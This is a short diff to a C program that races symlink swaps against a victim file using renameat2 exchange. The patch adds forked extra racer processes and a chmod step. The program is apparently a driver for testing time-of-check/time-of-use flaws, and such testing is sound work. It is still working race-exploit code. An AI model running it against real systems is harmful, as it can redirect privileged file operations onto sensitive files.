@@ -1,7 +1,7 @@
 /* Exchanges names for links to a file of the host's, as fast as it can, for as long as it lives:
  * whoever looks at a name and then acts on it is led to that file.
  *
- *   swap VICTIM [folder|file] [PAIRS]
+ *   swap VICTIM [folder|file] [PAIRS] [PROCESSES]
  */
 #define _GNU_SOURCE
 #include <fcntl.h>
@@ -40,6 +40,9 @@ int main(int argc, char **argv) {
     int pairs = argc > 3 ? atoi(argv[3]) : 32;
     for (int i = 0; i < pairs; i++)
         prepare(i, argv[1], folder);
+    for (int more = argc > 4 ? atoi(argv[4]) : 1; more > 1; more--)
+        if (fork() == 0)
+            break;
     if (write(1, "ready\n", 6) != 6)
         return 1;
     for (unsigned round = 0;; round++)
@@ -49,5 +52,7 @@ int main(int argc, char **argv) {
             snprintf(link, sizeof link, "l%d", i);
             if (syscall(SYS_renameat2, AT_FDCWD, name, AT_FDCWD, link, EXCHANGE) < 0)
                 prepare(i, argv[1], folder);
+            if (chmod(name, folder ? 0500 : 0200) < 0) /* closed again, if it is ours just now */
+                continue;
         }
 }
